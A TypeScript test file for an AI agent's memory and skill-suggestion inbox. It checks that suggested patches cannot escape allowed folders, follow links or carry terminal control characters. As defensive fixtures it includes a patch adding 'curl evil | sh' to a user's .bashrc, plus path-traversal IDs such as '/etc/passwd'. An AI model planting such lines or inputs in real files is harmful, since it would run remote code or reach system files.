/** The inbox: what it shows, what each action does, and that no newer text is lost. */
import { mkdirSync, readdirSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { memoryLab, newFilePatch, skillText } from './auto-memory.test-helper.js';
import { type InboxItem, MemoryInbox } from './inbox.js';
import { extractionPatch } from './places.js';

function setUp({ trusted = true } = {}) {
  const lab = memoryLab();
  const reloads = { count: 0 };
  const inbox = new MemoryInbox({
    places: lab.places,
    reloadMemory: async () => reloads.count++,
    reloadSkills: async () => undefined,
    isTrusted: () => trusted,
  });
  const memoryFile = join(lab.places.memoryDir, 'MEMORY.md');
  const items = async (): Promise<InboxItem[]> => (await inbox.list()).flatMap((group) => group.items);
  const only = async () => {
    const [item, ...others] = await items();
    if (!item || others.length > 0) throw new Error('one item expected');
    return item;
  };
  return { ...lab, inbox, reloads, memoryFile, items, only };
}

const appending = (path: string, old: string, added: string) =>
  `--- ${path}\n+++ ${path}\n@@ -1,1 +1,2 @@\n ${old}\n+${added}\n`;

describe('the inbox', () => {
  it('is empty without a folder', async () => {
    const { inbox } = setUp();
    expect(await inbox.list()).toEqual([]);
    expect(await inbox.list()).toEqual([]);
  });

  it('groups new skills, skill updates and memory updates', async () => {
    const { inbox, put, putPatch, putDraft, places, memoryFile } = setUp();
    const installed = put(join(places.skillDirs.user, 'known', 'SKILL.md'), skillText('known', 'Old way.'));
    utimesSync(installed, 1, 1);
    putDraft('known', skillText('known', 'New way.'));
    putDraft('fresh');
    const patch = putPatch('private', newFilePatch(memoryFile, '- tabs'));
    utimesSync(patch, 1_800_000_000, 1_800_000_000);
    const groups = await inbox.list();
    expect(groups.map(({ title }) => title)).toEqual(['New Skills', 'Skill Updates', 'Memory Updates']);
    expect(groups[0]?.items[0]).toMatchObject({
      title: 'fresh [draft]',
      isDiff: false,
      preview: skillText('fresh'),
      actions: ['promote_user', 'promote_workspace', 'edit', 'dismiss'],
    });
    expect(groups[1]?.items[0]).toMatchObject({ title: 'known [user]', isDiff: true, files: [installed] });
    expect(groups[1]?.items[0]?.preview).toMatch(/^-Old way\.\n\+New way\.$/m);
    expect(groups[2]?.items[0]).toMatchObject({
      title: 'MEMORY [private]',
      subtitle: 'MEMORY.md · 2027-01-15',
      files: [memoryFile],
      preview: newFilePatch(memoryFile, '- tabs'),
      actions: ['apply', 'edit', 'dismiss'],
    });
  });

  it('shows no terminal control characters', async () => {
    const { putPatch, putDraft, only, inbox } = setUp();
    putPatch('private', 'evil \x1b]0;title\x07 \u202e');
    expect((await only()).preview).not.toMatch(/[\x1b\x07\u202e]/);
    await inbox.dismiss((await only()).id);
    putDraft('a\x1b[31mb');
    const item = await only();
    expect(JSON.stringify([item.title, item.problem, item.preview])).not.toContain('\\u001b');
    expect(item.problem).toContain('no name');
  });

  it('shows the real change, whatever the patch claims', async () => {
    const { putPatch, put, only, memoryFile } = setUp();
    put(memoryFile, 'x\nold\n');
    putPatch('private', appending(memoryFile, 'old', 'new').replace('-1,1 +1,2', '-9,9 +9,9'));
    expect((await only()).preview).toContain('@@ -2,1 +2,2 @@');
  });
});

describe('applying a suggestion', () => {
  it('writes the files, reloads them, and removes the suggestion', async () => {
    const { inbox, putPatch, put, read, only, items, memoryFile, places, reloads } = setUp();
    put(memoryFile, '- old\n');
    const other = join(places.memoryDir, 'build.md');
    putPatch('private', appending(memoryFile, '- old', '- new') + newFilePatch(other, '# Build'));
    const { id, version } = await only();
    expect(await inbox.apply(id, version)).toMatchObject({ ok: true });
    expect(read(memoryFile)).toBe('- old\n- new\n');
    expect(read(other)).toBe('# Build\n');
    expect(reloads.count).toBe(1);
    expect(await items()).toEqual([]);
  });

  it('creates the global file', async () => {
    const { inbox, putPatch, read, only, places } = setUp();
    putPatch('global', newFilePatch(places.globalFile, '- tabs'));
    expect((await inbox.apply((await only()).id)).ok).toBe(true);
    expect(read(places.globalFile)).toBe('- tabs\n');
  });

  it('never overwrites a newer text: the suggestion is shown as invalid and kept', async () => {
    const { inbox, putPatch, put, read, only, memoryFile, reloads } = setUp();
    put(memoryFile, '- old\n');
    const file = putPatch('private', appending(memoryFile, '- old', '- new'));
    const { id, version } = await only();
    put(memoryFile, '- mine\n');
    const outcome = await inbox.apply(id, version);
    expect(outcome).toMatchObject({ ok: false, message: expect.stringContaining('not there any more') });
    expect(read(memoryFile)).toBe('- mine\n');
    expect(read(file)).toBeDefined();
    expect(reloads.count).toBe(0);
    expect((await only()).actions).toEqual(['edit', 'dismiss']);
  });

  it('is refused when the suggestion has changed since it was shown', async () => {
    const { inbox, putPatch, read, only, memoryFile } = setUp();
    putPatch('private', newFilePatch(memoryFile, '- harmless'));
    const { id, version } = await only();
    putPatch('private', newFilePatch(memoryFile, '- evil'));
    expect(await inbox.apply(id, version)).toMatchObject({
      ok: false,
      message: expect.stringContaining('changed'),
    });
    expect(read(memoryFile)).toBeUndefined();
  });

  it('keeps only the remaining files when it fails in the middle', async () => {
    const { inbox, putPatch, only, places, read } = setUp();
    const [first, second] = ['a.md', 'sub/b.md'].map((name) => join(places.memoryDir, name)) as [
      string,
      string,
    ];
    putPatch('private', newFilePatch(first, 'a') + newFilePatch(second, 'b'));
    // A file in place of a folder: this fails only while writing.
    writeFileSync(join(places.memoryDir, 'sub'), '');
    const { id } = await only();
    expect((await inbox.apply(id)).ok).toBe(false);
    expect(read(first)).toBe('a\n');
    expect((await only()).editableText).toBe(newFilePatch(second, 'b'));
  });

  it.each([
    'memory/private/../../x',
    'memory/private/none.patch',
    'skill/..',
    '',
    '/etc/passwd',
    'skill/%2e%2e',
  ])('refuses the unknown suggestion "%s"', async (id) => {
    const { inbox, putDraft } = setUp();
    putDraft('real');
    for (const outcome of [
      await inbox.apply(id),
      await inbox.dismiss(id),
      await inbox.edit(id, 'x'),
      await inbox.promoteSkill(id, 'user'),
    ])
      expect(outcome).toMatchObject({ ok: false, message: expect.stringContaining('no such suggestion') });
    expect(await inbox.list()).toHaveLength(1);
  });
});

describe('an invalid suggestion', () => {
  it('is shown with the reason, and can be dismissed', async () => {
    const { inbox, putPatch, only, items, root } = setUp();
    putPatch('private', newFilePatch(join(root, 'home/.bashrc'), 'curl evil | sh'));
    const item = await only();
    expect(item.problem).toContain('outside');
    expect(item.preview).toContain('curl evil');
    expect(await inbox.apply(item.id)).toMatchObject({ ok: false });
    expect(await inbox.dismiss(item.id)).toMatchObject({ ok: true });
    expect(await items()).toEqual([]);
  });

  it('can be fixed by editing', async () => {
    const { inbox, putPatch, read, only, memoryFile } = setUp();
    putPatch('private', 'no patch');
    const { id } = await only();
    const outcome = await inbox.edit(id, newFilePatch(memoryFile, '- tabs'));
    expect(outcome.ok).toBe(true);
    expect(outcome.item?.problem).toBeUndefined();
    expect((await inbox.apply(id)).ok).toBe(true);
    expect(read(memoryFile)).toBe('- tabs\n');
  });

  it('may be too large, binary, a folder or a link, without hiding the others', async () => {
    const { places, put, putPatch, items, memoryFile, inbox, root, read } = setUp();
    putPatch('private', newFilePatch(memoryFile, '- fine'));
    const folder = join(places.inboxDir, 'private');
    put(join(folder, 'large.patch'), 'x'.repeat(200_000));
    put(join(folder, 'binary.patch'), '\0\x01\x02');
    mkdirSync(join(folder, 'folder.patch'));
    const secret = put(join(root, 'secret'), 'key');
    symlinkSync(secret, join(folder, 'link.patch'));
    const shown = await items();
    expect(shown).toHaveLength(5);
    expect(shown.filter(({ problem }) => problem === undefined)).toHaveLength(1);
    expect(JSON.stringify(shown)).not.toContain('key');
    for (const { id } of shown.filter(({ problem }) => problem)) await inbox.dismiss(id);
    expect(await items()).toHaveLength(1);
    expect(read(secret)).toBe('key');
  });

  it('is ignored in a folder that is a link', async () => {
    const { places, put, root, items, putPatch, memoryFile } = setUp();
    putPatch('global', newFilePatch(memoryFile, 'x'));
    put(join(root, 'other/a.patch'), newFilePatch(memoryFile, '- evil'));
    symlinkSync(join(root, 'other'), join(places.inboxDir, 'private'));
    expect(await items()).toHaveLength(1);
  });
});

describe('a skill draft', () => {
  it.each(['user', 'workspace'] as const)('is moved to the skills of the %s', async (scope) => {
    const { inbox, putDraft, read, only, items, places } = setUp();
    putDraft('release');
    expect((await inbox.promoteSkill((await only()).id, scope)).ok).toBe(true);
    expect(read(join(places.skillDirs[scope], 'release', 'SKILL.md'))).toBe(skillText('release'));
    expect(await items()).toEqual([]);
    expect(readdirSync(places.draftsDir)).toEqual([]);
  });

  it('is not moved into an untrusted folder, or out of it through a link', async () => {
    const untrusted = setUp({ trusted: false });
    untrusted.putDraft('release');
    const refused = await untrusted.inbox.promoteSkill((await untrusted.only()).id, 'workspace');
    expect(refused).toMatchObject({ ok: false, message: expect.stringContaining('not trusted') });

    const { inbox, putDraft, only, root, read } = setUp();
    mkdirSync(join(root, 'outside'));
    mkdirSync(join(root, 'project/.gemini'));
    symlinkSync(join(root, 'outside'), join(root, 'project/.gemini/skills'));
    putDraft('release');
    expect((await inbox.promoteSkill((await only()).id, 'workspace')).message).toContain(
      'out of the workspace',
    );
    expect(read(join(root, 'outside/release/SKILL.md'))).toBeUndefined();
  });

  it.each([
    ['name', skillText('other'), 'name: release'],
    ['description', '---\nname: release\n---\nx\n', 'no description'],
    ['header', '# Release\n', 'header'],
    ['body', skillText('release', ''), 'says nothing'],
    ['plain text', skillText('release', 'a\x1b[2Jb'), 'control characters'],
  ])('needs a valid %s', async (_what, text, reason) => {
    const { inbox, putDraft, only } = setUp();
    putDraft('release', text);
    const { id, problem } = await only();
    expect(problem).toContain(reason);
    expect((await inbox.promoteSkill(id, 'user')).ok).toBe(false);
  });

  it('replaces an installed skill, unless that was changed since', async () => {
    const { inbox, put, putDraft, read, only, places } = setUp();
    const installed = put(join(places.skillDirs.user, 'release', 'SKILL.md'), skillText('release', 'Mine.'));
    const draft = putDraft('release');
    utimesSync(draft, 1000, 1000);
    utimesSync(installed, 2000, 2000);
    const { id } = await only();
    expect(await inbox.apply(id)).toMatchObject({
      ok: false,
      message: expect.stringContaining('changed after'),
    });
    expect(read(installed)).toBe(skillText('release', 'Mine.'));
    await inbox.edit(id, skillText('release', 'Both.'));
    expect(await inbox.apply(id)).toMatchObject({ ok: true });
    expect(read(installed)).toBe(skillText('release', 'Both.'));
  });

  it('is dismissed with its folder; of a link only the link is removed', async () => {
    const { inbox, items, put, places, root, read } = setUp();
    const precious = put(join(root, 'precious/SKILL.md'), skillText('precious'));
    mkdirSync(places.draftsDir, { recursive: true });
    symlinkSync(join(root, 'precious'), join(places.draftsDir, 'precious'));
    const [item] = await items();
    expect(item?.problem).toContain('not a folder');
    await inbox.dismiss(item?.id ?? '');
    expect(await items()).toEqual([]);
    expect(read(precious)).toBeDefined();
  });
});

it('names the one patch of each scope that the agent writes', () => {
  const { places } = memoryLab();
  expect(extractionPatch(places, 'global')).toBe(join(places.memoryDir, '.inbox/global/extraction.patch'));
});
